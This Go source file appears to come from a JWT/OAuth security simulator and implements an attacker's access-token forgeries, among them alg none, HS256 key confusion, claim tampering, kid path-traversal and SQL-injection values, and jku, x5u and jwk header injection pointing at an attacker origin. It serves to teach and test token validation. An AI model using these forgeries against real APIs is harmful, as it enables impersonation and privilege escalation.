package sim

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"time"

	"github.com/golang-jwt/jwt/v5"
	"github.com/tokensim/tokensim/sim/jose"
)

// Forgery is a way to make an access token without the AS's private key.
// Each targets a validation mistake (RFC 8725 §2); a hardened API refuses
// every one with 401 invalid_token (RFC 6750 §3.1).
type Forgery string

const (
	ForgeAlgNone      Forgery = "alg-none"      // unsigned: alg none, empty signature (RFC 8725 §2.1)
	ForgeKeyConfusion Forgery = "key-confusion" // HS256 keyed with the AS's public key PEM (RFC 8725 §2.1)
	ForgeTampered     Forgery = "tampered"      // a stolen token's claims edited, its signature kept
	ForgeKidPath      Forgery = "kid-path"      // kid ../../../../dev/null, HS256 with the empty key (RFC 8725 §3.10)
	ForgeKidSQL       Forgery = "kid-sql"       // kid ' UNION SELECT 'attacker-secret' --, HS256 with that secret
	ForgeKidUnknown   Forgery = "kid-unknown"   // signed with the attacker's key under a kid the AS never published
	ForgeJKU          Forgery = "jku"           // jku points at the attacker's key set (RFC 7515 §4.1.2)
	ForgeX5U          Forgery = "x5u"           // x5u points at the attacker's certificate (RFC 7515 §4.1.5)
	ForgeJWK          Forgery = "jwk"           // the attacker's key embedded in the header (RFC 7515 §4.1.3)
)

// Forgeries lists every forgery (a fresh slice each call).
func Forgeries() []Forgery {
	return []Forgery{ForgeAlgNone, ForgeKeyConfusion, ForgeTampered, ForgeKidPath, ForgeKidSQL,
		ForgeKidUnknown, ForgeJKU, ForgeX5U, ForgeJWK}
}

// Needs lists the flaws that let the forgery in, all of them together.
// FlawNoSignatureCheck alone also lets in every one: nothing is checked.
func (f Forgery) Needs() []Flaw {
	switch f {
	case ForgeAlgNone:
		return []Flaw{FlawNoAlgAllowlist, FlawAllowNone}
	case ForgeKeyConfusion:
		return []Flaw{FlawNoAlgAllowlist, FlawKeyAsBytes}
	case ForgeKidPath, ForgeKidSQL:
		return []Flaw{FlawNoAlgAllowlist, FlawKidLookup}
	case ForgeJKU:
		return []Flaw{FlawTrustJKU}
	case ForgeX5U:
		return []Flaw{FlawTrustX5U}
	case ForgeJWK:
		return []Flaw{FlawTrustJWK}
	}
	return []Flaw{FlawNoSignatureCheck} // tampered, kid-unknown
}

// The secrets of the kid-injection forgeries: what the injected kid makes
// a flawed key store return.
const (
	kidPathInjection = "../../../../../dev/null"
	kidSQLSecret     = "attacker-secret"
	kidSQLInjection  = "x' UNION SELECT '" + kidSQLSecret + "' --"
)

// Forge makes an access token of the given forgery and presents it to the
// API as a bearer token. The token claims the victim's identity with
// orders:write added; the outcome is the API's answer.
func (a *Attacker) Forge(f Forgery, method, path string) Outcome {
	raw, how, o := a.forge(f)
	if raw == "" {
		a.env.emit(Event{Kind: KindForgeFailed, From: ActorAttacker, Error: o.Error, Reason: o.Reason})
		return o
	}
	a.mu.Lock()
	a.forged = append(a.forged, raw)
	label := fmt.Sprintf("forged-%d", len(a.forged))
	a.mu.Unlock()
	a.env.emit(Event{Kind: KindForged, From: ActorAttacker, Token: label,
		Summary: "the attacker forged " + label + " (" + string(f) + ")", Reason: how})
	return a.callWith(raw, method, path, PresentBearer)
}

// forgedLabel names raw if the attacker forged it, for reasons.
func (a *Attacker) forgedLabel(raw string) string {
	a.mu.Lock()
	defer a.mu.Unlock()
	for i, t := range a.forged {
		if t == raw {
			return fmt.Sprintf("forged-%d", i+1)
		}
	}
	return ""
}

// forge builds the token and says how, or returns why it could not.
func (a *Attacker) forge(f Forgery) (raw, how string, _ Outcome) {
	stolen, _ := a.tokens()
	claims, from := a.forgedClaims(stolen)
	var signed jwt.SigningMethod // how the forgery was signed, for CryptoOps; nil when nothing was
	hs := func(key []byte, kid string) (string, error) {
		signed = jwt.SigningMethodHS256
		t := jwt.NewWithClaims(jwt.SigningMethodHS256, claims)
		t.Header["typ"], t.Header["kid"] = "at+jwt", kid
		return t.SignedString(key)
	}
	own := func(extra map[string]any) (string, error) {
		key, _ := a.key.get()
		signed = jwt.SigningMethodEdDSA
		t := jwt.NewWithClaims(jwt.SigningMethodEdDSA, claims)
		t.Header["typ"], t.Header["kid"] = "at+jwt", key.KID
		for k, v := range extra {
			t.Header[k] = v
		}
		return t.SignedString(key.Private)
	}
	var err error
	switch f {
	case ForgeAlgNone:
		signed = jwt.SigningMethodNone
		t := jwt.NewWithClaims(jwt.SigningMethodNone, claims)
		t.Header["typ"] = "at+jwt"
		raw, err = t.SignedString(jwt.UnsafeAllowNoneSignatureType)
		how = "header alg none and an empty signature: nothing to verify, if the API lets the token say so"
	case ForgeKeyConfusion:
		pub, kid, why := a.fetchASKey()
		if pub == nil {
			return "", "", Outcome{Error: CodeUnreachable, Reason: why}
		}
		raw, err = hs(publicPEM(pub), kid)
		how = "HS256 keyed with the AS's public key in PEM, downloaded from its JWKS: an API that hands the library that key as bytes computes the same HMAC"
	case ForgeTampered:
		if stolen == "" {
			return "", "", Outcome{Error: CodeNoToken, Reason: "tampering needs a real token to edit: the attacker holds no access token"}
		}
		raw = tamper(stolen, claims)
		how = "the stolen token's payload rewritten, its header and signature kept: the signature no longer matches what it signs"
	case ForgeKidPath:
		raw, err = hs([]byte{}, kidPathInjection)
		how = "kid " + kidPathInjection + " and HS256 with an empty key: an API that opens kid as a file reads /dev/null, which is empty"
	case ForgeKidSQL:
		raw, err = hs([]byte(kidSQLSecret), kidSQLInjection)
		how = "kid " + kidSQLInjection + " and HS256 with the secret " + kidSQLSecret + ": an API that splices kid into SQL gets back the row the attacker chose"
	case ForgeKidUnknown:
		raw, err = own(nil)
		how = "signed with the attacker's own Ed25519 key under kid " + attackerKID + ", which the AS never published"
	case ForgeJKU:
		raw, err = own(map[string]any{"jku": AttackerOrigin + "/jwks.json"})
		how = "signed with the attacker's key; header jku " + AttackerOrigin + "/jwks.json, where the attacker serves that key"
	case ForgeX5U:
		raw, err = own(map[string]any{"x5u": AttackerOrigin + "/cert.pem"})
		how = "signed with the attacker's key; header x5u " + AttackerOrigin + "/cert.pem, a self-signed certificate for it"
	case ForgeJWK:
		key, _ := a.key.get()
		raw, err = own(map[string]any{"jwk": key.JWK()})
		how = "signed with the attacker's key, which the header carries itself as jwk"
	default:
		return "", "", Outcome{Error: CodeBadRequest, Reason: fmt.Sprintf("unknown forgery %q", f)}
	}
	if err != nil {
		return "", "", Outcome{Error: CodeBadRequest, Reason: "the forgery failed: " + err.Error()}
	}
	if signed != nil {
		a.env.counters.forge(signed.Alg())
	}
	return raw, how + "; its claims were " + from, Outcome{}
}

// forgedClaims are the claims a forgery asserts: the stolen token's when
// there is one, else what any access token shows (a JWT is readable by
// anyone who sees it), with orders:write added and a fresh lifetime.
func (a *Attacker) forgedClaims(stolen string) (jwt.MapClaims, string) {
	now := a.env.clock.Now()
	c := jwt.MapClaims{
		"iss": a.issuer, "aud": []string{a.audience}, "sub": DemoUser,
		"client_id": a.victim.id, "scope": DefaultScope,
	}
	from := "made up from the shape every access token shows"
	if stolen != "" {
		if d, err := jose.Decode(stolen); err == nil {
			c, from = jwt.MapClaims(d.Claims), "copied from the stolen token"
		}
	}
	// A DPoP binding (cnf) would tie the forgery to the victim's key, which
	// the attacker does not hold: it leaves the claim out and sends an
	// unbound token. What stops a forgery is the signature check, not DPoP
	// (RFC 9449 §7 protects a token only where its integrity is verified).
	if _, bound := c["cnf"]; bound {
		delete(c, "cnf")
		from += " without its DPoP binding (cnf)"
	}
	scope, _ := c["scope"].(string)
	if !slices.Contains(strings.Fields(scope), "orders:write") {
		scope = strings.TrimSpace(scope + " orders:write")
	}
	c["scope"] = scope
	c["iat"], c["exp"] = now.Unix(), now.Add(24*time.Hour).Unix()
	c["jti"] = "forged-" + a.env.rand.token(12)
	return c, from + ", with orders:write added and a 24h lifetime"
}

// tamper replaces raw's payload with claims, keeping header and signature.
func tamper(raw string, claims jwt.MapClaims) string {
	parts := strings.Split(raw, ".")
	b, _ := json.Marshal(claims)
	parts[1] = base64.RawURLEncoding.EncodeToString(b)
	return strings.Join(parts, ".")
}

// fetchASKey downloads the AS's current public key from its JWKS, as
// anyone may.
func (a *Attacker) fetchASKey() (pub any, kid, why string) {
	req, _ := http.NewRequest(http.MethodGet, a.issuer+"/jwks.json", nil)
	resp, body, o := a.env.send(a.http, req)
	if resp == nil || resp.StatusCode != http.StatusOK {
		return nil, "", "the attacker could not download the AS's public keys: " + o.Reason
	}
	var doc struct{ Keys []jose.JWK }
	if err := json.Unmarshal(body, &doc); err != nil || len(doc.Keys) == 0 {
		return nil, "", "the AS's key set is unreadable"
	}
	k, err := doc.Keys[0].PublicKey()
	if err != nil {
		return nil, "", "the AS's key set is unreadable: " + err.Error()
	}
	return k, doc.Keys[0].KID, ""
}
